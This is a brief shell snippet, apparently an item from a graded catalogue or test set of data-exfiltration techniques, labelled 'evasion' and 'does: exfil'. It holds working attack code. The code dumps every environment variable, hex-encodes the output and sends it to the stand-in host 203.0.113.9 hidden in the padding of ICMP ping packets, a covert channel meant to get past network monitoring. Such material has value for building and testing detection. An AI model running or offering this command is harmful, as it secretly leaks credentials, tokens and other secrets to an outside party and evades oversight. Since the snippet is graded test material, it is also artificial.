# evasion: the environment leaves as hex padding patterns of ICMP echo requests
# grade: hard; does: exfil
env | xxd -p -c 16 | while read -r chunk; do
	ping -c 1 -W 1 -p "$chunk" 203.0.113.9 >/dev/null 2>&1
done
